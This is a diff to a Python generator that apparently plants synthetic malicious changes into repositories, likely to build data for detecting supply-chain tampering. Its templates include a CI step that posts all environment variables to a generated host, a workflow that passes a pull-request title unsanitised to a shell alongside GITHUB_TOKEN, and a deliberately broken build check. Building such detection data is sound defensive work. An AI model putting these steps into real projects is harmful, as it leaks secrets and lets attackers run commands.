@@ -10,7 +10,7 @@ from collections.abc import Callable, Sequence
 import numpy as np
 
 from ..features.history import History
-from ..features.manifests import form_of
+from ..features.manifests import BROKEN, PROBE, declared, form_of
 from ..features.vectors import describe_commits
 from .splices import Files, Touch, plant
 
@@ -78,7 +78,7 @@ def workflow_step(files: Files, rng: np.random.Generator) -> list[Touch] | None:
         f"    - python -c \"import os,urllib.request as u;"
         f"u.urlopen('https://{host}',str(os.environ).encode())\"\n",
     ])  # fmt: skip
-    return [Touch(workflow, step, size=3_000)]
+    return [Touch(workflow, step, size=3_000, declares=" ".join(sorted(declared(workflow, step))))]
 
 
 def fixture_and_glue(files: Files, rng: np.random.Generator) -> list[Touch] | None:
@@ -149,12 +149,18 @@ def obfuscated_line(files: Files, rng: np.random.Generator) -> list[Touch] | Non
 
 
 def weakened_check(files: Files, rng: np.random.Generator) -> list[Touch] | None:
-    """One character in a build file, so that a check can no longer succeed."""
-    build = files.some("build", rng)
-    if build is None:
-        return None
+    """One line in a program that the build tries to compile, so that it never can be.
+
+    In a project without any, in any build file.
+    """
     line = _one(rng, [".\n", f"  int {_word(rng)}(void;\n", f"#ifdef {_word(rng).upper()}_\n"])
-    return [Touch(build, line, deleted=1, size=8_000)]
+    if files.probes:
+        build = str(rng.choice(list(files.probes)))
+        name = files.probes[build]
+        declares = f"{BROKEN}{name} {PROBE}{name}@{rng.bytes(4).hex()}"
+        return [Touch(build, line, deleted=1, size=8_000, declares=declares)]
+    build = files.some("build", rng)
+    return build and [Touch(build, line, deleted=1, size=8_000)]
 
 
 def inline_hook(files: Files, rng: np.random.Generator) -> list[Touch] | None:
@@ -193,7 +199,9 @@ def new_workflow(files: Files, rng: np.random.Generator) -> list[Touch] | None:
         f"      - run: ./{name}.sh ${{{{ github.event.pull_request.title }}}}\n"
         f"        env:\n          T: ${{{{ secrets.GITHUB_TOKEN }}}}\n",
     ])  # fmt: skip
-    return [Touch(f".github/workflows/{name}.yml", text, new=True, size=len(text))]
+    path = f".github/workflows/{name}.yml"
+    uses = " ".join(sorted(declared(path, text)))
+    return [Touch(path, text, new=True, size=len(text), declares=uses)]
 
 
 def dropper(files: Files, rng: np.random.Generator) -> list[Touch] | None:
